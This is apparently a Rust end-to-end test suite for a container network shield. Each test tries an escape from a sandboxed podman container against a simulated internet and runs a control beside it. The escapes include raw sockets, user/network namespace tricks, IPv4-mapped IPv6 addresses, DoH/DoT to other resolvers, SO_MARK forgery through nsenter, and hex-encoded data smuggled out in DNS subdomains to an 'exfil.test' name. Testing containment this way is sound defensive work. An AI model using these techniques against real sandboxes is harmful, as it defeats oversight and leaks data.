//! End-to-end: escape attempts from inside a shielded container, each with a control.
//!
//! Every test runs the attack in a shielded container (real rootless podman, real packets
//! into the fake internet of tests/e2e/world.rs) and shows it fails, and runs the same
//! technique where it can work (a plain container, or an allowed target) to show that the
//! technique itself does something observable there, so each test could fail. Needs root and
//! scripts/podman-env.sh (see docs/testing-e2e.md, "Soak and escape tests").

#[path = "e2e/mod.rs"]
#[macro_use]
mod e2e;

use e2e::world::*;
use e2e::{dns_config, probe_script, Probes, IMAGE, RAN};

/// `podman run --rm EXTRA... IMAGE sh -c SCRIPT` as the test user, no shield.
fn plain(h: &e2e::E2e, name: &str, extra: &[&str], script: &str) -> e2e::cmd::Out {
    let mut args: Vec<&str> = vec!["run", "--rm", "--name", name];
    args.extend_from_slice(extra);
    args.extend_from_slice(&[IMAGE, "sh", "-c", script]);
    h.podman(&args)
}

/// The text after `TAG ` on the workload's `TAG ...` line.
#[track_caller]
fn line<'a>(out: &'a e2e::cmd::Out, tag: &str) -> &'a str {
    let prefix = format!("{tag} ");
    out.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no {tag} line in the output: {out}"))
}

/// The `CapEff` bits printed by `grep ^CapEff: /proc/self/status`.
#[track_caller]
fn cap_eff(out: &e2e::cmd::Out) -> u64 {
    let hex = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:"))
        .unwrap_or_else(|| panic!("no CapEff line: {out}"));
    u64::from_str_radix(hex.trim(), 16).unwrap()
}

const NET_RAW: u64 = 1 << 13;

// ---------------------------------------------------------------------------------------
// 1. Raw and packet sockets
// ---------------------------------------------------------------------------------------

/// The raw-socket tools of busybox: `arping` (an AF_PACKET socket), `traceroute` (a raw
/// ICMP socket to read the answers) and `ping` (raw, or an ICMP datagram socket).
fn raw_script() -> String {
    format!(
        "echo {RAN}\n\
         grep '^CapEff:' /proc/self/status\n\
         o=$(timeout 5 arping -c 1 -w 2 -I tap0 {BLOCKED4} 2>&1); echo \"ARPING rc=$? $(echo $o)\"\n\
         o=$(timeout 5 traceroute -n -m 1 -w 1 -q 1 {BLOCKED4} 2>&1); echo \"TRACE rc=$? $(echo $o)\"\n\
         o=$(timeout 5 ping -c 2 -W 1 {BLOCKED4} 2>&1); echo \"PING rc=$? $(echo $o)\"\n"
    )
}

#[test]
fn raw_and_packet_sockets_are_refused_without_cap_net_raw() {
    let mut h = e2e!();
    let name = h.name("esc-raw");
    let out = h.run_script(&name, "e2e-basic", &raw_script()).expect_ok();
    assert_eq!(
        cap_eff(&out) & NET_RAW,
        0,
        "CAP_NET_RAW is effective: {out}"
    );
    eprintln!("escape: shielded raw sockets:\n{}", out.stdout);
    for tag in ["ARPING", "TRACE"] {
        let l = line(&out, tag);
        assert!(
            !l.starts_with("rc=0") && l.contains("not permitted"),
            "{tag}: a raw or packet socket was not refused with EPERM: {out}"
        );
    }
    // ping may fall back to an ICMP datagram socket (podman's ping_group_range): it must not
    // get an answer from the blocked host either way.
    let ping = line(&out, "PING");
    assert!(
        !ping.starts_with("rc=0") && !ping.contains("bytes from"),
        "ping reached the blocked host: {out}"
    );
    assert!(
        ping.contains("permission denied") || ping.contains("0 packets received"),
        "ping neither refused its socket nor failed to get answers: {out}"
    );

    // Control: with CAP_NET_RAW and no shield the same tools get their sockets and send.
    let control = h.name("esc-raw-control");
    let out = plain(&h, &control, &["--cap-add", "NET_RAW"], &raw_script()).expect_ok();
    assert_ne!(
        cap_eff(&out) & NET_RAW,
        0,
        "control lacks CAP_NET_RAW: {out}"
    );
    eprintln!("escape: unshielded raw sockets:\n{}", out.stdout);
    let arping = line(&out, "ARPING");
    assert!(
        arping.contains("Sent 1 probe") && !arping.contains("not permitted"),
        "control: arping did not send on a packet socket: {out}"
    );
    let trace = line(&out, "TRACE");
    assert!(
        trace.contains(&format!("traceroute to {BLOCKED4}")) && !trace.contains("not permitted"),
        "control: traceroute did not open its raw socket: {out}"
    );
    let ping = line(&out, "PING");
    assert!(
        ping.contains("packets transmitted") && !ping.contains("permission denied"),
        "control: ping did not send on its raw socket: {out}"
    );
}

// ---------------------------------------------------------------------------------------
// 2. A new user + network namespace
// ---------------------------------------------------------------------------------------

#[test]
fn a_new_user_and_network_namespace_has_no_way_out() {
    let mut h = e2e!();
    let name = h.name("esc-userns");
    let inner = format!(
        "readlink /proc/self/ns/net; ip -o link | cut -d: -f2; \
         for t in {BLOCKED4} {ALLOWED4}; do o=$(timeout 5 nc $t 80 </dev/null 2>&1); echo NC-$t rc=$? $o; done"
    );
    let script = format!(
        "echo {RAN}\n\
         echo \"OUTER $(readlink /proc/self/ns/net)\"\n\
         o=$(timeout 5 unshare -n true 2>&1); echo \"NETONLY rc=$? $(echo $o)\"\n\
         o=$(timeout 20 unshare -Urn sh -c '{inner}' 2>&1); echo \"USERNS rc=$? $(echo $o)\"\n\
         o=$(timeout 5 nc {ALLOWED4} 80 </dev/null 2>&1); echo \"OUTSIDE rc=$? $(echo $o)\"\n"
    );
    let mark = h.world.mark();
    let out = h.run_script(&name, "e2e-basic", &script).expect_ok();
    // Without CAP_SYS_ADMIN a bare network namespace is refused.
    assert!(
        !line(&out, "NETONLY").starts_with("rc=0"),
        "unshare -n worked without a user namespace: {out}"
    );
    eprintln!("escape: namespaces:\n{}", out.stdout);
    let userns = line(&out, "USERNS");
    let outer = line(&out, "OUTER");
    if userns.starts_with("rc=0") {
        // It worked: a different network namespace with nothing but lo, and no way out.
        assert!(!userns.contains(outer), "same netns as outside: {out}");
        assert!(userns.contains(" lo ") && !userns.contains("tap0"), "{out}");
        for host in [BLOCKED4, ALLOWED4] {
            let nc = format!("NC-{host} rc=");
            assert!(
                userns.contains(&nc) && !userns.contains(&format!("NC-{host} rc=0")),
                "connect from the new namespace to {host} succeeded: {out}"
            );
        }
        assert!(
            !userns.contains("terok-e2e-world"),
            "a banner came through: {out}"
        );
    } else {
        eprintln!("escape: unshare -Urn refused in the container: {userns}");
    }
    assert!(
        !h.world.saw_since(mark, BLOCKED4, 80),
        "the world saw the blocked host"
    );
    // Control: the same nc from the container's own namespace reaches the allowed host, so
    // it is the new namespace, not the tool, that has no way out.
    let want = banner(ALLOWED4.parse().unwrap(), 80);
    assert!(
        line(&out, "OUTSIDE").contains(want.trim()),
        "control: the allowed host was not reached from the container's netns: {out}"
    );
    assert!(h.world.saw_since(mark, ALLOWED4, 80));
}

// ---------------------------------------------------------------------------------------
// 3. IPv4-mapped and IPv4-compatible IPv6 destinations
// ---------------------------------------------------------------------------------------

const MAPPED_BLOCKED: &str = "::ffff:198.51.100.20";
const MAPPED_ALLOWED: &str = "::ffff:198.51.100.10";
const COMPAT_BLOCKED: &str = "::198.51.100.20";

#[test]
fn ipv4_mapped_and_compatible_ipv6_destinations_are_refused() {
    let mut h = e2e!();
    let name = h.name("esc-mapped");
    let targets = [
        (MAPPED_BLOCKED, 80),
        (MAPPED_ALLOWED, 80),
        (COMPAT_BLOCKED, 80),
    ];
    let mark = h.world.mark();
    let out = h
        .run_script(&name, "e2e-basic", &probe_script(&targets))
        .expect_ok();
    eprintln!("escape: shielded mapped/compatible:\n{}", out.stdout);
    let p = Probes::of(&out, &h.world, mark);
    for host in [MAPPED_BLOCKED, COMPAT_BLOCKED] {
        let probe = p.all.iter().find(|x| x.host == host).unwrap();
        assert!(
            probe.rc != 0 && probe.text.contains("refused") && probe.cs <= e2e::FAST_CS,
            "{host}: expected a fast refusal, got {probe:?}\n{out}"
        );
    }
    assert!(
        !h.world.saw_since(mark, BLOCKED4, 80),
        "a mapped or compatible address reached the blocked host"
    );
    // Control 1: the mapped form of the allowed host is reached (the kernel sends it as IPv4).
    let allowed = p.all.iter().find(|x| x.host == MAPPED_ALLOWED).unwrap();
    assert!(
        allowed.rc == 0 && allowed.text.contains("terok-e2e-world"),
        "the mapped allowed host was not reached: {allowed:?}\n{out}"
    );
    assert!(h.world.saw_since(mark, ALLOWED4, 80));

    // Control 2: without the shield the mapped form of the blocked host is reached.
    let control = h.name("esc-mapped-control");
    let mark = h.world.mark();
    let out = plain(&h, &control, &[], &probe_script(&targets)).expect_ok();
    let p = Probes::of(&out, &h.world, mark);
    let blocked = p.all.iter().find(|x| x.host == MAPPED_BLOCKED).unwrap();
    assert!(
        blocked.rc == 0 && blocked.text.contains("terok-e2e-world"),
        "control: the mapped blocked host was not reached: {blocked:?}\n{out}"
    );
    assert!(h.world.saw_since(mark, BLOCKED4, 80));
    // The compatible form is a plain IPv6 address no one routes: never reached, but not the
    // shield's fast refusal either.
    let compat = p.all.iter().find(|x| x.host == COMPAT_BLOCKED).unwrap();
    assert!(compat.rc != 0, "control: {compat:?}\n{out}");
    eprintln!("escape: unshielded {COMPAT_BLOCKED}: {compat:?}");
}

// ---------------------------------------------------------------------------------------
// 4. DNS over TCP, DoT and DoH to resolvers that are not the container's
// ---------------------------------------------------------------------------------------

#[test]
fn dns_over_tcp_dot_and_doh_to_other_resolvers_are_refused() {
    let mut h = e2e!();
    h.set_config(&dns_config("builtin", ""));
    h.profile("e2e-esc-dns", "svc.e2e.test\n");
    let name = h.name("esc-doh");
    let targets = [
        (OTHER_DNS4, 53),
        (OTHER_DNS4, 853),
        (OTHER_DNS4, 443),
        (DNS4, 53),
        (DNS4, 443),
        (DNS6, 443),
    ];
    let mut script = probe_script(&targets);
    script.push_str(&format!(
        "echo \"RESOLVER $(timeout 5 nslookup svc.e2e.test 2>&1 | grep -c {NAMED4})\"\n"
    ));
    let mark = h.world.mark();
    let out = h.run_script(&name, "e2e-esc-dns", &script).expect_ok();
    let p = Probes::of(&out, &h.world, mark);
    for (host, port) in targets {
        p.refused_fast(host, port);
    }
    // Control 1: the allowed resolver path (resolv.conf, the container's resolver) answers.
    assert!(
        out.stdout.contains("RESOLVER 1"),
        "control: the container's own resolver did not answer: {out}"
    );
    assert!(h.world.dns_queries().iter().any(|q| q == "svc.e2e.test"));

    // Control 2: without the shield the same connections reach the world.
    let control = h.name("esc-doh-control");
    let mark = h.world.mark();
    let out = plain(&h, &control, &[], &probe_script(&targets)).expect_ok();
    let p = Probes::of(&out, &h.world, mark);
    for (host, port) in [(OTHER_DNS4, 443), (DNS4, 443), (DNS6, 443)] {
        p.reached(host, port);
    }
    for (host, port) in [(OTHER_DNS4, 53), (DNS4, 53)] {
        assert!(
            h.world.saw_since(mark, host, port),
            "control: the world saw no TCP connection to {host}:{port}\n{out}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 5. Data in subdomains of a wildcard entry: the known covert channel, measured
// ---------------------------------------------------------------------------------------

#[test]
fn data_in_subdomains_of_a_wildcard_reaches_upstream_the_known_limit() {
    let mut h = e2e!();
    h.set_config(&dns_config("builtin", ""));
    h.profile("e2e-esc-wild", "*.e2e.test\n");
    let name = h.name("esc-covert");
    // "secret-1" and "secret-2" in hex, as a workload would smuggle them.
    let inside = "7365637265742d31.x.e2e.test";
    let outside = "7365637265742d32.x.exfil.test";
    let script = format!(
        "echo {RAN}\n\
         timeout 5 nslookup {inside} >/dev/null 2>&1; echo \"INSIDE rc=$?\"\n\
         timeout 5 nslookup {outside} >/dev/null 2>&1; echo \"OUTSIDE rc=$?\"\n"
    );
    let out = h.run_script(&name, "e2e-esc-wild", &script).expect_ok();
    assert!(out.stdout.contains(RAN), "{out}");
    let asked = h.world.dns_queries();
    // The limit: a name under the wildcard goes upstream with its data (NXDOMAIN back).
    assert!(
        asked.iter().any(|q| q == inside),
        "the data-carrying name under the wildcard did not reach upstream: {asked:?}\n{out}"
    );
    // What the allowlist still holds: a name outside it never leaves the container.
    assert!(
        !asked.iter().any(|q| q.contains("7365637265742d32")),
        "a name outside the allowlist reached upstream: {asked:?}"
    );
}

// ---------------------------------------------------------------------------------------
// 7. The state bundle is out of reach
// ---------------------------------------------------------------------------------------

fn bundle_search() -> String {
    format!(
        "echo {RAN}\n\
         find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o \\( -name state.json -o -name runtime.json \
         -o -name 'audit.jsonl*' -o -name hook-error.log -o -name learned.jsonl \\) -print 2>/dev/null | sed 's/^/FOUND /'\n\
         grep terok /proc/self/mountinfo | sed 's/^/MOUNT /'\n\
         echo SEARCHED\n"
    )
}

#[test]
fn the_state_bundle_is_not_visible_inside_the_container() {
    let mut h = e2e!();
    let name = h.name("esc-bundle");
    let out = h
        .run_script(&name, "e2e-basic", &bundle_search())
        .expect_ok();
    assert!(out.stdout.contains("SEARCHED"), "{out}");
    eprintln!("escape: bundle search:\n{}", out.stdout);
    let found: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("FOUND "))
        .collect();
    assert!(
        found.is_empty(),
        "bundle files visible inside: {found:?}\n{out}"
    );
    let mounts: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("MOUNT "))
        .collect();
    assert!(
        mounts.is_empty(),
        "a terok path is mounted into the container: {mounts:?}\n{out}"
    );
    let bundle = h.bundle_dir(&name).display().to_string();
    assert!(
        h.bundle_dir(&name).join("state.json").exists(),
        "no bundle on the host"
    );

    // Control: the same search finds the bundle when it is mounted (so it would see a leak).
    let control = h.name("esc-bundle-control");
    let volume = format!("{bundle}:/mnt/leak:ro");
    let out = plain(&h, &control, &["-v", &volume], &bundle_search()).expect_ok();
    assert!(
        out.stdout.contains("FOUND /mnt/leak/state.json"),
        "control: the search did not find a mounted bundle: {out}"
    );
}

// ---------------------------------------------------------------------------------------
// 6. SO_MARK forgery of the resolver's mark
// ---------------------------------------------------------------------------------------

/// Python (run in the container's user + network namespaces): set the builtin resolver's
/// SO_MARK on a UDP socket and ask the world's other DNS server for NAME with it. Bounded by
/// a 2 s receive timeout. Prints `CAPEFF hex`, `MARK ok|errno N` and `ANSWER n|SEND error`.
fn forge_script(name: &str) -> String {
    let mark = terok_shield::core::policy::RESOLVER_MARK;
    let labels: String = name
        .split('.')
        .map(|l| format!("bytes([{}]) + b\"{l}\" + ", l.len()))
        .collect();
    format!(
        "import socket, struct\n\
         print('CAPEFF', open('/proc/self/status').read().split('CapEff:')[1].split()[0])\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         try:\n    s.setsockopt(socket.SOL_SOCKET, 36, {mark}); print('MARK ok')\n\
         except OSError as e:\n    print('MARK errno', e.errno)\n\
         q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + {labels}b'\\0' + struct.pack('>HH', 1, 1)\n\
         s.settimeout(2)\n\
         try:\n    s.sendto(q, ('{OTHER_DNS4}', 53)); print('ANSWER', len(s.recv(512)))\n\
         except OSError as e:\n    print('SEND', e)\n"
    )
}

/// `nsenter` into the user and network namespaces of `pid` (as uid 0 there), optionally
/// through `setpriv` dropping CAP_NET_ADMIN and CAP_NET_RAW as the shield drops them from
/// the workload, then run `script` with the system python3.
fn in_container_ns(pid: &str, drop_caps: bool, script: &str) -> String {
    let mut args: Vec<&str> = vec!["10", "nsenter", "-t", pid, "-U", "-n", "--"];
    if drop_caps {
        args.extend_from_slice(&[
            "setpriv",
            "--bounding-set=-net_admin,-net_raw",
            "--inh-caps=-net_admin,-net_raw",
            "--",
        ]);
    }
    args.extend_from_slice(&["/usr/bin/python3", "-c", script]);
    let out = std::process::Command::new("timeout")
        .args(&args)
        .current_dir("/")
        .output()
        .expect("nsenter runs");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn the_resolver_mark_cannot_be_forged_without_cap_net_admin() {
    const NET_ADMIN: u64 = 1 << 12;
    let mut h = e2e!();
    h.set_config(&dns_config("builtin", ""));
    h.profile("e2e-esc-mark", "svc.e2e.test\n");
    let name = h.name("esc-mark");
    h.run_detached(&name, "e2e-esc-mark").expect_ok();
    let pid = h
        .podman(&["inspect", "-f", "{{.State.Pid}}", &name])
        .expect_ok()
        .stdout
        .trim()
        .to_string();

    // The attack, with the workload's lack of CAP_NET_ADMIN: no mark, no way to upstream DNS.
    let out = in_container_ns(&pid, true, &forge_script("forge-a.e2e.test"));
    let capeff = out
        .lines()
        .find_map(|l| l.strip_prefix("CAPEFF "))
        .and_then(|x| u64::from_str_radix(x.trim(), 16).ok())
        .unwrap_or_else(|| panic!("the forging client did not run: {out}"));
    assert_eq!(capeff & NET_ADMIN, 0, "CAP_NET_ADMIN left: {out}");
    assert!(out.contains("MARK errno 1"), "SO_MARK was not EPERM: {out}");
    assert!(
        !out.contains("ANSWER"),
        "an unmarked query got an answer: {out}"
    );
    let log = h.world.dns_log();
    assert!(
        !log.iter().any(|q| q.name == "forge-a.e2e.test"),
        "the unmarked query reached the world: {log:?}"
    );

    // Control: with CAP_NET_ADMIN in the container's user namespace (as the shield's own
    // resolver has), the same mark is accepted and the query goes through the firewall.
    let out = in_container_ns(&pid, false, &forge_script("forge-b.e2e.test"));
    assert!(out.contains("MARK ok"), "control: SO_MARK failed: {out}");
    assert!(out.contains("ANSWER"), "control: no answer: {out}");
    let log = h.world.dns_log();
    assert!(
        log.iter()
            .any(|q| q.name == "forge-b.e2e.test" && q.server.ip().to_string() == OTHER_DNS4),
        "control: the marked query did not reach the world: {log:?}"
    );
    assert_eq!(h.shield_state(&name), "up");
}
